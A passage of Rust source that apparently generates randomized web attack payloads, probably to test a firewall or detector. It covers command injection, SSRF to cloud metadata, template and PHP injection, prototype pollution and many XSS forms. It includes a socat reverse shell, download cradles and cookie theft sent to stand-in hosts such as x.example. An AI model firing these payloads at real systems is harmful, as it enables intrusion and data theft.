            ("socat", "tcp:192.0.2.7:4444 exec:sh"),
            ("telnet", "192.0.2.7 4444"),
        ],
        &[
            ("python", "-c 'import os;os.system(\"id\")'"),
            ("python3", "-c 'import pty;pty.spawn(\"sh\")'"),
            ("perl", "-e 'exec \"/bin/sh\"'"),
            ("php", "-r 'system(\"id\");'"),
            ("ruby", "-e 'exec \"id\"'"),
            ("sh", "-c id"),
        ],
        &[
            ("rm", "-rf /tmp/x"),
            ("chmod", "+x /tmp/s"),
            ("echo", "x > /var/www/html/s.php"),
            ("touch", "/tmp/pwned"),
            ("crontab", "-l"),
        ],
        &[
            ("sleep", "5"),
            ("ping", "-c 3 127.0.0.1"),
            ("nslookup", "x.example"),
            ("dig", "x.example"),
        ],
    ];
    let family = families[rng.below(families.len())];
    family[rng.below(family.len())]
}

/// A command word written as a shell reads it back to the same word.
fn obfuscate_word(rng: &mut Rng, word: &str) -> String {
    // Every word has two letters or more: both halves are non-empty.
    let (a, b) = word.split_at(1 + rng.below(word.len() - 1));
    match rng.below(10) {
        0 => format!("{a}'{b}'"),
        1 => format!("{a}\"\"{b}"),
        2 => format!("{a}\\{b}"),
        3 => format!("{a}$@{b}"),
        4 => format!("{a}${{u}}{b}"),
        5 => format!("/bin/{word}"),
        6 => format!("/usr/bin/{word}"),
        7 => {
            // A glob matching the word: some letters as `?`.
            let glob: String = word
                .chars()
                .enumerate()
                .map(|(i, c)| if i % 2 == 1 { '?' } else { c })
                .collect();
            format!("/???/{glob}")
        }
        _ => word.to_owned(),
    }
}

/// Windows `cmd` and `PowerShell` injection: `&`, `|`, carets, quotes,
/// environment variables, encoded commands, download cradles.
fn windows_rce(rng: &mut Rng) -> String {
    let sep = rng.pick(&["&", "&&", "|", "||", "\r\n", " & ", " | "]);
    let command = rng.pick(&[
        "whoami",
        "net user",
        "net localgroup administrators",
        "ipconfig /all",
        "systeminfo",
        "tasklist",
        "type c:\\windows\\win.ini",
        "dir c:\\",
        "cmd /c whoami",
        "%COMSPEC% /c whoami",
        "powershell -enc SQBFAFgA",
        "powershell -nop -w hidden -c whoami",
        "certutil -urlcache -split -f http://x.example/s.exe s.exe",
        "IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')",
        "bitsadmin /transfer j http://x.example/s.exe c:\\s.exe",
        "wmic process call create calc",
    ]);
    let (word, rest) = command.split_once(' ').unwrap_or((command, ""));
    let word = match rng.below(4) {
        0 if !word.starts_with('%') => {
            // `cmd` drops a caret before any character.
            let mut out = String::new();
            for (i, c) in word.chars().enumerate() {
                if i > 0 && i % 2 == 0 {
                    out.push('^');
                }
                out.push(c);
            }
            out
        }
        1 if word.len() > 2 => format!("{}\"\"{}", &word[..2], &word[2..]),
        _ => word.to_owned(),
    };
    let space = if rest.is_empty() { "" } else { " " };
    format!(
        "{}{sep}{word}{space}{rest}",
        rng.pick(&["1", "x", "", "127.0.0.1", "a.txt"])
    )
}

/// A `NoSQL` operator value (the payload is the operator).
fn nosql_value(rng: &mut Rng) -> String {
    rng.pick(&[
        "$ne", "$gt", "$regex", "$where", "$exists", "$in", "$nin", "$or", "$lt", "$expr",
    ])
    .to_owned()
}

/// `NoSQL` operators in parameter names (`u_id[$ne]=1`) or JSON keys.
fn nosql_request(rng: &mut Rng, op: &str) -> Request<'static> {
    let field = rng.pick(&["user", "u_id", "password", "username", "token", "email"]);
    let value = rng.pick(&["1", "", ".*", "null", "true", "sleep(1000)", "a"]);
    match rng.below(3) {
        0 => Request::from_target(
            "GET",
            format!(
                "/login?{field}[{}]={}",
                encode(op, "%20"),
                encode(value, "%20")
            ),
        ),
        1 => Request::new("POST", "/login").body(
            "application/x-www-form-urlencoded",
            format!("{field}%5B{}%5D={}", encode(op, "+"), encode(value, "+")),
        ),
        _ => {
            let inner = if op == "$where" {
                serde_json::json!({ op: "sleep(100) || true" })
            } else {
                serde_json::json!({ op: value })
            };
            Request::new("POST", "/api/login").body(
                "application/json",
                serde_json::json!({ field: inner }).to_string(),
            )
        }
    }
}

/// A host that is this machine, the internal network or a metadata
/// service, in one of its spellings.
fn ssrf_host(rng: &mut Rng) -> String {
    match rng.below(4) {
        0 => rng
            .pick(&[
                "127.0.0.1",
                "2130706433",
                "0x7f000001",
                "0x7f.0x0.0x0.0x1",
                "0177.0.0.1",
                "017700000001",
                "127.1",
                "127.0.1",
                "127.000.000.001",
                "0",
                "0.0.0.0",
                "[::1]",
                "[::]",
                "[0:0:0:0:0:0:0:1]",
                "[::ffff:127.0.0.1]",
                "[::ffff:7f00:1]",
                "[0:0:0:0:0:ffff:127.0.0.1]",
                "127.127.127.127",
            ])
            .to_owned(),
        1 => rng
            .pick(&[
                "169.254.169.254",
                "2852039166",
                "0xa9fea9fe",
                "0251.0376.0251.0376",
                "[fd00:ec2::254]",
                "metadata.google.internal",
                "100.100.100.200",
                "[::ffff:169.254.169.254]",
            ])
            .to_owned(),
        2 => rng
            .pick(&[
                "localhost",
                "LOCALHOST",
                "localhost.localdomain",
                "localhost4",
                "ip6-localhost",
                "host.docker.internal",
                "gateway.docker.internal",
                "redis.default.svc.cluster.local",
                "db.internal",
                "api.localhost",
                "localtest.me",
                "lvh.me",
                "127.0.0.1.nip.io",
                "7f000001.sslip.io",
            ])
            .to_owned(),
        _ => rng
            .pick(&[
                "10.0.0.5",
                "192.168.1.1",
                "172.16.0.10",
                "172.31.255.1",
                "10.1.2.3",
            ])
            .to_owned(),
    }
}

/// SSRF: a URL to this host, the internal network or a cloud metadata
/// service, the host spelt one of the ways URL parsers accept (decimal,
/// hex, octal, short and mixed IPv4 forms, IPv6 loopback and mapped forms,
/// local and internal names, wildcard DNS to 127.0.0.1), in one of the
/// schemes fetchers speak.
fn ssrf(rng: &mut Rng) -> String {
    let scheme = rng.pick(&[
        "http://",
        "https://",
        "http://",
        "gopher://",
        "dict://",
        "ftp://",
        "ldap://",
        "tftp://",
        "HTTP://",
        "sftp://",
    ]);
    let host = ssrf_host(rng);
    let host = if rng.chance(15) {
        format!(
            "{}@{host}",
            rng.pick(&["user", "user:pass", "x.example.com", "evil.example"])
        )
    } else {
        host
    };
    let port = rng.pick(&["", "", ":80", ":6379", ":11211", ":8080", ":22", ":2375"]);
    let path = rng.pick(&[
        "/",
        "/admin",
        "/latest/meta-data/iam/security-credentials/",
        "/computeMetadata/v1/",
        "/_INFO",
        "/_%0D%0ASET%20x%201%0D%0A",
        "/stat",
        "",
        "/server-status",
    ]);
    if rng.chance(10) {
        return format!(
            "file://{}",
            rng.pick(&["/etc/passwd", "localhost/etc/hosts", "/proc/self/environ"])
        );
    }
    format!("{scheme}{host}{port}{path}")
}

/// A URL placed where applications take one (a webhook, an image to
/// fetch, a redirect), as a query, form or JSON value.
fn url_request(rng: &mut Rng, url: &str) -> Request<'static> {
    let name = rng.pick(&[
        "url",
        "uri",
        "target",
        "webhook",
        "image_url",
        "feed",
        "callback",
        "dest",
        "next",
    ]);
    match rng.below(3) {
        0 => Request::from_target("GET", format!("/fetch?{name}={}", encode(url, "%20"))),
        1 => Request::new("POST", "/fetch").body(
            "application/x-www-form-urlencoded",
            format!("{name}={}", encode(url, "+")),
        ),
        _ => Request::new("POST", "/api/fetch").body(
            "application/json",
            serde_json::json!({ name: url }).to_string(),
        ),
    }
}

/// Node.js and template injection: reaching `child_process` or `process`
/// through `require`, `process.mainModule`, the `Function` constructor,
/// node-serialize's function marker, and server-side templates reaching
/// the runtime; spacing and quote styles varied.
fn node(rng: &mut Rng) -> String {
    let q = rng.pick(&["'", "\"", "`"]);
    let sp = rng.pick(&["", " ", "  "]);
    let module = rng.pick(&["child_process", "fs", "net", "vm"]);
    let call = rng.pick(&[
        "exec('id')",
        "execSync('id')",
        "spawn('sh')",
        "readFileSync('/etc/passwd')",
        "runInNewContext('1')",
    ]);
    match rng.below(7) {
        0 => format!("require({sp}{q}{module}{q}{sp}).{call}"),
        1 => format!("process.mainModule.require({q}{module}{q}).{call}"),
        2 => format!(
            "{}.constructor.constructor({q}return process{q})()",
            rng.pick(&["this", "[]", "''", "{}", "(function(){})", "Object"])
        ),
        3 => format!("new Function({q}return process.env{q})()"),
        4 => format!("_$$ND_FUNC$$_function(){{require({q}child_process{q}).exec({q}id{q})}}()"),
        5 => format!("global.process.mainModule.constructor._load({q}{module}{q}).{call}"),
        _ => rng
            .pick(&[
                "{{constructor.constructor('return process')().env}}",
                "{{''.__class__.__mro__[1].__subclasses__()}}",
                "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
                "{{self._TemplateReference__context.cycler.__init__.__globals__.os}}",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "<%= require('child_process').execSync('id') %>",
                "#{7*7}",
                "{{7*7}}",
                "${{7*7}}",
                "{php}system('id');{/php}",
                "{{request.application.__globals__.__builtins__.__import__('os')}}",
                "{% import os %}{{ os.system('id') }}",
            ])
            .to_owned(),
    }
}

/// A prototype pollution path: `__proto__` or `constructor.prototype`,
/// in the bracket, dot or JSON form (the request builder places it).
fn proto_path(rng: &mut Rng) -> String {
    let property = rng.pick(&[
        "isAdmin",
        "admin",
        "role",
        "polluted",
        "toString",
        "shell",
        "NODE_OPTIONS",
    ]);
    let root = rng.pick(&[
        "__proto__",
        "constructor.prototype",
        "__proto__",
        "constructor[prototype]",
    ]);
    format!("{root}.{property}")
}

/// Places a prototype pollution path as a query or form name (`a[b][c]=`
/// or `a.b.c=`) or as JSON keys.
fn proto_request(rng: &mut Rng, path: &str) -> Request<'static> {
    let parts: Vec<String> = path
        .replace('[', ".")
        .replace(']', "")
        .split('.')
        .map(str::to_owned)
        .collect();
    let value = rng.pick(&["1", "true", "--require /proc/self/environ", "x"]);
    let bracketed = || {
        let mut name = parts[0].clone();
        for part in &parts[1..] {
            let _ = write!(name, "[{part}]");
        }
        name
    };
    match rng.below(4) {
        0 => Request::from_target(
            "GET",
            format!("/settings?{}={}", bracketed(), encode(value, "%20")),
        ),
        1 => Request::new("POST", "/settings").body(
            "application/x-www-form-urlencoded",
            format!("{}={}", encode(&bracketed(), "+"), encode(value, "+")),
        ),
        2 => Request::from_target(
            "GET",
            format!("/settings?{}={}", parts.join("."), encode(value, "%20")),
        ),
        _ => {
            let mut json = serde_json::json!(value);
            for part in parts.iter().rev() {
                json = serde_json::json!({ part.as_str(): json });
            }
            Request::new("POST", "/api/settings").body("application/json", json.to_string())
        }
    }
}

/// PHP code injection: a dangerous function called the ways PHP allows
/// (any case, blanks and comments before the parenthesis, a namespace
/// backslash, the name built from strings or held in a variable or a
/// superglobal, callbacks taking the name), with or without an open tag.
fn php(rng: &mut Rng) -> String {
    let function = rng.pick(&[
        "system",
        "exec",
        "passthru",
        "shell_exec",
        "popen",
        "proc_open",
        "eval",
        "assert",
        "include",
        "file_get_contents",
        "file_put_contents",
        "base64_decode",
        "phpinfo",
        "pcntl_exec",
        "create_function",
    ]);
    let arg = rng.pick(&[
        "'id'",
        "\"id\"",
        "$_GET['c']",
        "'/etc/passwd'",
        "base64_decode('aWQ=')",
        "''",
        "$_POST[0]",
    ]);
    let call = match rng.below(8) {
        0 => format!("{}({arg})", case(rng, function)),
        1 => format!(
            "{function}{}({arg})",
            rng.pick(&[" ", "  ", "/**/", "\t", "#x\n", "//x\n"])
        ),
        2 => format!("\\{function}({arg})"),
        3 => {
            let (a, b) = function.split_at(function.len() / 2);
            format!("(\"{a}\".\"{b}\")({arg})")
        }
        4 => format!("$f='{function}';$f({arg})"),
        5 => format!(
            "{}('{function}',{arg})",
            rng.pick(&[
                "call_user_func",
                "array_map",
                "call_user_func_array",
                "usort",
                "register_shutdown_function"
            ])
        ),
        6 => rng
            .pick(&[
                "$_GET['a']($_GET['b'])",
                "$_REQUEST[0]($_REQUEST[1])",
                "${'_GET'}[0](1)",
                "`id`",
            ])
            .to_owned(),
        _ => format!("@{function}({arg})"),
    };
    match rng.below(4) {
        0 => format!("<?php {call}; ?>"),
        1 => format!("<?={call}?>"),
        _ => format!("{call};"),
    }
}

/// Places a value of the markup families where browsers and pages take
/// one: as [`place`] does, or in the `Referer` or `User-Agent` header (a
/// page that shows where its visitors came from), or as an argument's
/// name. A `¼`/`¾` in the value is sent as the single byte `0xBC`/`0xBE`
/// (what a server reading US-ASCII with the high bit dropped reads as `<`
/// and `>`), in the query or a form only.
fn place_markup(rng: &mut Rng, value: &str) -> Request<'static> {
    if value.contains(['¼', '¾']) {
        let encoded = encode(value, "%20")
            .replace("%C2%BC", "%BC")
            .replace("%C2%BE", "%BE");
        return if rng.chance(50) {
            Request::from_target("GET", format!("/items?q={encoded}"))
        } else {
            Request::new("POST", "/form").body(
                "application/x-www-form-urlencoded",
                format!("comment={encoded}"),
            )
        };
    }
    match rng.below(6) {
        0 => Request::from_target("GET", "/items").header(
            "Referer",
            format!("https://x.example/search?q={}", encode(value, "%20")),
        ),
        1 => Request::from_target("GET", "/items").header("User-Agent", value.to_owned()),
        2 => Request::from_target("GET", format!("/items?{}=1", encode(value, "%20"))),
        _ => place(rng, value),
    }
}

/// A script call written without a plain `alert(`, for the markup
/// families: a dialog, a navigation, a cookie sent away.
fn markup_call(rng: &mut Rng) -> String {
    let dialog = rng.pick(&["alert", "prompt", "confirm", "print"]);
    match rng.below(6) {
        0 => format!("{dialog}(1)"),
        1 => format!("{dialog}`1`"),
        2 => format!("{dialog}(document.domain)"),
        3 => "location='//x.example/?c='+document.cookie".to_owned(),
        4 => format!("eval('{dialog}(1)')"),
        _ => format!("top.{dialog}(1)"),
    }
}

/// An event handler attribute's name, from the families of the DOM's
/// events (mouse, key, focus, form, media, animation, drag, clipboard,
/// page, SVG animation timing).
fn event_name(rng: &mut Rng) -> String {
    let family = rng.pick(&[
        "mouse",
        "pointer",
        "key",
        "focus",
        "drag",
        "touch",
        "animation",
        "transition",
    ]);
    let phase = match family {
        "mouse" => rng.pick(&["over", "out", "down", "up", "move", "enter", "leave"]),
        "pointer" => rng.pick(&["over", "down", "up", "enter", "leave", "rawupdate"]),
        "key" => rng.pick(&["down", "up", "press"]),
        "focus" => rng.pick(&["", "in", "out"]),
        "drag" => rng.pick(&["", "start", "end", "enter", "over", "leave"]),
        "touch" => rng.pick(&["start", "end", "move"]),
        _ => rng.pick(&["start", "end", "iteration", "cancel"]),
    };
    let single = rng.pick(&[
        "error",
        "load",
        "click",
        "dblclick",
        "auxclick",
        "contextmenu",
        "input",
        "change",
        "submit",
        "reset",
        "invalid",
        "select",
        "search",
        "toggle",
        "begin",
        "end",
        "repeat",
        "play",
        "playing",
        "canplaythrough",
        "loadeddata",
        "loadedmetadata",
        "durationchange",
        "volumechange",
        "seeked",
        "scroll",
        "scrollend",
        "wheel",
        "copy",
        "cut",
        "paste",
        "beforeinput",
        "beforecopy",
        "pageshow",
        "pagehide",
        "hashchange",
        "popstate",
        "message",
        "resize",
        "afterprint",
        "beforeprint",
        "unload",
        "beforeunload",
        "start",
        "finish",
        "bounce",
        "readystatechange",
        "securitypolicyviolation",
        "selectionchange",
        "selectstart",
        "formdata",
        "show",
        "close",
        "cancel",
    ]);
    if rng.chance(50) {
        format!("on{family}{phase}")
    } else {
        format!("on{single}")
    }
}

/// A breakout from one place a value lands in an HTML page back to text:
/// an attribute (quoted or not), a comment, CDATA, the elements whose
/// content is raw text or escapable raw text, a script.
fn html_breakout(rng: &mut Rng) -> String {
    let element = rng.pick(&[
        "title", "textarea", "style", "script", "xmp", "iframe", "noembed", "noframes", "noscript",
        "template", "option", "select",
    ]);
    match rng.below(9) {
        0 => String::new(),
        1 => format!("</{}>", case(rng, element)),
        2 => format!("</{} >", case(rng, element)),
        3 => rng.pick(&["-->", "--!>", "]]>", "?>"]).to_owned(),
        4 => rng.pick(&["\">", "'>", "`>", ">", " >", "\"/>"]).to_owned(),
        5 => format!("\"></{}>", case(rng, element)),
        6 => format!("'>-->]]></{}>", case(rng, element)),
        7 => format!("</{}/x>", case(rng, element)),
        _ => rng.pick(&["\"", "'", ""]).to_owned(),
    }
}

/// A construct that runs script from each HTML context, after a breakout
/// from where the value landed: event handlers of elements of every kind,
/// URL attributes of every element that takes one, documents inside
/// attributes, SVG and `MathML`, refresh, base, form targets, styles.
#[allow(clippy::too_many_lines)] // one construct of the grammar per arm
fn xss_context(rng: &mut Rng) -> String {
    let breakout = html_breakout(rng);
    let call = markup_call(rng);
    let scheme = rng.pick(&["javascript:", "javascript:", "vbscript:"]);
    let scheme = case(rng, scheme);
    let blank = tag_blank(rng);
    let event = event_name(rng);
    let event = case(rng, &event);
    let construct = match rng.below(14) {
        0 => {
            let tag = rng.pick(&[
                "a", "div", "p", "b", "i", "span", "img", "input", "body", "svg", "video",
                "audio", "source", "track", "table", "td", "form", "button", "select",
                "textarea", "details", "dialog", "marquee", "object", "embed", "iframe", "math",
                "mi", "x", "xss", "custom-element", "html", "style", "frameset", "keygen",
                "meter", "progress", "output", "label", "fieldset", "legend", "summary",
                "abbr", "h1", "ul", "li", "code", "pre", "nav", "main", "section",
            ]);
            let needs = rng.pick(&["", "", " src=x", " tabindex=1", " autofocus", " open"]);
            format!(
                "<{}{needs}{blank}{event}={}>",
                case(rng, tag),
                quoted(rng, &call)
            )
        }
        1 => {
            let (tag, attribute) = match rng.below(12) {
                0 => ("a", "href"),
                1 => ("iframe", "src"),
                2 => ("form", "action"),
                3 => ("button", "formaction"),
                4 => ("input type=submit", "formaction"),
                5 => ("object", "data"),
                6 => ("embed", "src"),
                7 => ("area", "href"),
                8 => ("math", "href"),
                9 => ("svg><a", "xlink:href"),
                10 => ("frame", "src"),
                _ => ("isindex", "action"),
            };
            format!(
                "<{}{blank}{}={}>x",
                case(rng, tag),
                case(rng, attribute),
                quoted(rng, &format!("{scheme}{call}"))
            )
        }
        2 => format!(
            "<meta http-equiv={} content={}>",
            {
                let refresh = case(rng, "refresh");
                quoted(rng, &refresh)
            },
            quoted(rng, &format!("0;url={scheme}{call}"))
        ),
        3 => {
            let url = rng.pick(&["//x.example/", "https://x.example/", "javascript:/a/"]);
            format!("<base href={}>", quoted(rng, url))
        }
        4 => format!(
            "<iframe srcdoc={}>",
            quoted(
                rng,
                &format!("&lt;svg onload={}&gt;", call.replace(['\'', '"'], "&quot;"))
            )
        ),
        5 => format!(
            "<svg><{} attributeName={} {}={} dur=1s>",
            rng.pick(&["animate", "set", "animate"]),
            rng.pick(&["href", "xlink:href"]),
            rng.pick(&["to", "values", "from"]),
            quoted(rng, &format!("{scheme}{call}"))
        ),
        6 => format!(
            "<svg><{} {event}={} attributeName=x dur=1s>",
            rng.pick(&["animate", "set", "animatetransform", "animatemotion", "discard"]),
            quoted(rng, &call)
        ),
        7 => format!(
            "<svg><use href={}/>",
            quoted(
                rng,
                "data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"
            )
        ),
        8 => format!(
            "<math><{} xlink:href={}>x",
            rng.pick(&["maction actiontype=statusline", "mtext", "mi", "a"]),
            quoted(rng, &format!("{scheme}{call}"))
        ),
        9 => {
            let tag = rng.pick(&["div", "x", "p", "a", "span"]);
            let style = rng.pick(&[
                    "behavior:url(#default#time2)",
                    "-moz-binding:url(//x.example/x.xml#x)",
                    "background-image:url(javascript:alert(1))",
                    "width:expression(alert(1))",
                    "x:expr/**/ession(alert(1))",
                "list-style:url(vbscript:msgbox(1))",
            ]);
            format!("<{tag} style={}>", quoted(rng, style))
        }
        10 => format!(
            "<style>{}</style>",
            rng.pick(&[
                "@import '//x.example/x.css';",
                "@import url(//x.example/x.css);",
                "body{background:url(javascript:alert(1))}",
                "*{x:expression(alert(1))}",
                "@im\\port '//x.example/x.css';",
            ])
        ),
        11 => format!(
            "<link rel={} href={}>",
            rng.pick(&["stylesheet", "import", "preload", "prefetch"]),
            quoted(rng, "//x.example/x")
        ),
        12 => {
            let tag = rng.pick(&["object", "embed", "applet"]);
            let attribute = rng.pick(&["data", "src", "code", "classid", "codebase", "type"]);
            let value = rng.pick(&["//x.example/x.swf", "x.class", "text/html"]);
            format!("<{tag} {attribute}={}>", quoted(rng, value))
        }
        _ => {
            let q = rng.pick(&["\"", "'", "`", ""]);
            format!("{q}{blank}{event}={q}{call}{blank}x={q}")
        }
    };
    format!("{breakout}{construct}")
}

/// A script URL or markup run through the decodings a browser does at
/// each layer, each written the ways it accepts: character references
/// (named, decimal, hex, leading zeros, no `;`), percent-encoding inside
/// the URL, JavaScript escapes (`\x`, `\u`, `\u{}`, octal) in strings,
/// blanks and controls inside the scheme, UTF-7 (`+ADw-`), full-width
/// forms, and the bytes `0xBC`/`0xBE` a US-ASCII server reads as `<`/`>`.
fn xss_encoded(rng: &mut Rng) -> String {
    let call = markup_call(rng);
    match rng.below(7) {
        0 | 1 => {
            // A script URL in a URL attribute, its letters as references.
            let mut scheme = String::new();
            for (i, c) in "javascript".chars().enumerate() {
                if i > 0 && rng.chance(15) {
                    scheme.push(rng.pick(&["\t", "\n", "\r"]).chars().next().unwrap_or('\t'));
                }
                scheme.push(c);
            }
            // Then the blanks left raw as named references, or not.
            let scheme = references(rng, &scheme);
            let scheme = match rng.below(3) {
                0 => scheme.replace('\t', "&Tab;").replace('\n', "&NewLine;"),
                _ => scheme,
            };
            let colon = rng.pick(&[":", "&colon;", "&#58;", "&#x3A;", "&#0058;", "%3a"]);
            let body = if rng.chance(40) {
                // The URL is percent-decoded before it runs.
                call.replace('(', "%28").replace(')', "%29")
            } else {
                call
            };
            let lead = rng.pick(&["", "", " ", "&#32;", "&#x01;", "\u{1}"]);
            let (tag, attribute) = rng
                .pick(&[
                    "a href",
                    "iframe src",
                    "form action",
                    "button formaction",
                    "object data",
                    "embed src",
                ])
                .split_once(' ')
                .unwrap_or(("a", "href"));
            if rng.chance(30) {
                format!("{lead}{scheme}{colon}{body}")
            } else {
                format!("<{tag} {attribute}=\"{lead}{scheme}{colon}{body}\">x")
            }
        }
        2 => {
            // A handler whose code is written with JavaScript escapes.
            let dialog = rng.pick(&["alert", "prompt", "confirm"]);
            let first = dialog.chars().next().unwrap_or('a');
            let rest = &dialog[1..];
            let code = match rng.below(5) {
                0 => format!("\\u{:04x}{rest}(1)", first as u32),
                1 => format!("\\u{{{:x}}}{rest}(1)", first as u32),
                2 => format!("eval('\\x{:02x}{rest}(1)')", first as u32),
                3 => format!("eval('\\{:o}{rest}\\50\\61\\51')", first as u32),
                _ => format!("setTimeout('\\u{:04x}{rest}\\x281\\x29')", first as u32),
            };
            let tag = rng.pick(&["img src=x", "svg", "body", "details open", "video src=x"]);
            let event = rng.pick(&["onerror", "onload", "ontoggle", "onpageshow"]);
            format!("<{tag} {event}={}>", quoted(rng, &code))
        }
        3 => {
            // UTF-7: `<`, `>` and `"` as `+ADw-`, `+AD4-`, `+ACI-`.
            let markup = format!("<script>{call}</script>");
            let markup = if rng.chance(50) {
                markup
            } else {
                format!("<img src=x onerror=\"{call}\">")
            };
            markup
                .replace('<', "+ADw-")
                .replace('>', "+AD4-")
                .replace('"', "+ACI-")
        }
        4 => {
            // Full-width forms a server may fold (NFKC) to ASCII.
            let markup = format!("<svg onload={call}>");
            markup
                .chars()
                .map(|c| match c {
                    '<' => '\u{ff1c}',
                    '>' => '\u{ff1e}',
                    '=' if rng.chance(50) => '\u{ff1d}',
                    c if c.is_ascii_lowercase() && rng.chance(30) => {
                        char::from_u32(c as u32 - 0x61 + 0xff41).unwrap_or(c)
                    }
                    c => c,
                })
                .collect()
        }
        5 => {
            // The high bit set on `<` and `>` (`0xBC`, `0xBE`).
            let markup = if rng.chance(50) {
                format!("<script>{call}</script>")
            } else {
                format!("<img src=x onerror={call}>")
            };
            markup.replace('<', "¼").replace('>', "¾")
        }
        _ => {
            // Markup as character references (an application that decodes
            // them once before writing the page).
            let markup = format!("<img src=x onerror={call}>");
            references(rng, &markup)
        }
    }
}

/// Each character of `text` as itself or as a character reference of one
/// of the forms browsers accept: decimal or hex, leading zeros, and
/// without its `;` where the next character cannot continue the number.
fn references(rng: &mut Rng, text: &str) -> String {
    let mut out = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let code = c as u32;
        let open_ended = chars
            .peek()
            .is_none_or(|next| !next.is_ascii_alphanumeric() && *next != ';');
        let _ = match rng.below(6) {
            0 => write!(out, "&#{code};"),
            1 => write!(out, "&#x{code:x};"),
            2 => write!(out, "&#X{code:X};"),
            3 => write!(out, "&#{code:07};"),
            4 if open_ended => write!(out, "&#x{code:06x}"),
            _ => write!(out, "{c}"),
        };
    }
    out
}

/// Script written without markup: client-side template expressions
/// (`AngularJS`, Vue) reaching `constructor`, calls without parentheses
/// (a handler assigned then an exception, tagged templates, `call`,
/// `apply`), assignments to navigation and markup sinks, the page's
/// globals reached through computed members and comments, and `JSFuck`.
#[allow(clippy::too_many_lines)] // one construct of the grammar per arm
fn xss_template(rng: &mut Rng) -> String {
    let dialog = rng.pick(&["alert", "prompt", "confirm", "print"]);
    let (head, tail) = dialog.split_at(2);
    let global = global(rng);
    let gap = rng.pick(&["", " ", "/**/", "/*x*/", "\n"]);
    let code = format!("{dialog}(1)");
    match rng.below(9) {
        0 => {
            let reach = rng.pick(&[
                "constructor.constructor",
                "$on.constructor",
                "[].pop.constructor",
                "toString.constructor",
                "'a'.constructor.fromCharCode.constructor",
                "_c.constructor",
                "$eval.constructor",
                "valueOf.constructor",
            ]);
            let (open, close) = rng
                .pick(&["{{ }}", "{{ }}", "[[ ]]", "{{{ }}}"])
                .split_once(' ')
                .unwrap_or(("{{", "}}"));
            format!("{open}{gap}{reach}('{code}')(){gap}{close}")
        }
        1 => format!("{{{{$eval.constructor('{code}')()}}}}"),
        2 => {
            let handler = rng.pick(&["onerror", "window.onerror", "self.onerror", "top.onerror"]);
            let thrown = rng.pick(&["1", "'x'", "new Error", "{}"]);
            match rng.below(3) {
                0 => format!("{handler}={dialog};throw {thrown}"),
                1 => format!("throw {handler}={dialog},{thrown}"),
                _ => format!("{{{handler}={dialog}}}throw {thrown}"),
            }
        }
        3 => match rng.below(4) {
            0 => format!(
                "[1].{}({dialog})",
                rng.pick(&["map", "find", "some", "every", "filter", "forEach"])
            ),
            1 => format!(
                "[].{}.call`${{{dialog}}}1`",
                rng.pick(&["sort", "map", "find"])
            ),
            2 => format!("Reflect.apply.call`${{{dialog}}}${{{global}}}${{[1]}}`"),
            _ => format!("{dialog}.call`${{1}}`"),
        },
        4 => {
            let sink = rng.pick(&[
                "location",
                "location.href",
                "document.location",
                "window.location",
                "top.location.href",
                "location.hash",
                "document.body.innerHTML",
                "document.documentElement.outerHTML",
            ]);
            let value = rng.pick(&[
                "'javascript:alert%281%29'",
                "name",
                "'//x.example/?'+document.cookie",
                "/javascript:alert%281%29/.source",
                "'<img src=x onerror=alert(1)>'",
            ]);
            let lead = rng.pick(&["", "';", "\";", "'-", "\"}"]);
            format!("{lead}{sink}{gap}={gap}{value}")
        }
        5 => match rng.below(5) {
            0 => format!("{global}[{gap}'{head}'+'{tail}'{gap}](1)"),
            1 => format!("{global}{gap}[{gap}\"{dialog}\"{gap}](1)"),
            2 => format!("document[{gap}'cookie'{gap}]"),
            3 => format!("{global}[{gap}'document'{gap}][{gap}'cookie'{gap}]"),
            _ => format!("{global}[{gap}atob('{}')](1)", base64(dialog.as_bytes())),
        },
        6 => match rng.below(4) {
            0 => format!("valueOf={dialog};{global}+''"),
            1 => format!("toString={dialog};{global}+1"),
            2 => "x=new Image;x.src='//x.example/?'+document.cookie".to_owned(),
            _ => format!("new Function`{dialog}\\`1\\``"),
        },
        7 => match rng.below(4) {
            0 => "eval(location.hash.slice(1))".to_owned(),
            1 => "eval(name)".to_owned(),
            2 => "setTimeout(name)".to_owned(),
            _ => "document.write(decodeURI(location.hash))".to_owned(),
        },
        _ => {
            let pieces = [
                "(![]+[])[+!+[]]",
                "(!![]+[])[+[]]",
                "([][[]]+[])[!+[]+!+[]]",
                "+!![]",
                "!![]+!![]",
                "[][(![]+[])[+[]]]",
            ];
            let n = 2 + rng.below(3);
            (0..n)
                .map(|_| rng.pick(&pieces))
                .collect::<Vec<_>>()
                .join("+")
        }
    }
}
/// Unix command injection in the styles of the POSIX `sh` and `bash`
/// grammars that [`rce`] does not write: redirections and assignments
/// before the command word, process substitution, here-strings, ANSI-C
/// quoting (`$'\x63at'`), substrings of variables (`${HOME:0:1}` for `/`),
/// commands assembled from variables, line continuations, pipelines into
/// a shell, base64 decoded into a shell, history expansion and Shellshock
/// function definitions.
fn rce_shell(rng: &mut Rng) -> String {
    let (word, args) = shell_command(rng);
    let line = match rng.below(12) {
        0 => format!(
            "<{} {word} {args}",
            rng.pick(&["/dev/null", "/etc/hosts", "x"])
        ),
        1 => format!(
            "{} {word} {args}",
            rng.pick(&["LANG=C", "PATH=/bin:/usr/bin", "x=1 y=2", "IFS=,"])
        ),
        2 => format!(
            "{} <({word} {args})",
            rng.pick(&["cat", "bash", "sh", "source", "diff /dev/null"])
        ),
        3 => format!(
            "{}<<<\"{word} {args}\"",
            rng.pick(&["bash", "sh", "zsh", "dash"])
        ),
        4 => format!("{} {args}", ansi_c_quoted(rng, word)),
        5 => format!(
            "{word} {}",
            args.replace('/', rng.pick(&["${HOME:0:1}", "${PWD:0:1}", "${PATH:0:1}"]))
        ),
        6 => {
            let (a, b) = word.split_at(word.len() / 2);
            let glue = rng.pick(&[";", "&&", " "]);
            format!("a={a}{glue}b={b}{glue}$a$b {args}")
        }
        7 => {
            let (a, b) = word.split_at(1);
            format!("{a}\\\n{b} {args}")
        }
        8 => format!(
            "echo {}|{}",
            base64(format!("{word} {args}").as_bytes()),
            rng.pick(&["base64 -d|sh", "base64 --decode|bash", "base64 -d|bash -s"])
        ),
        9 => format!(
            "{} \"$({word} {args})\"",
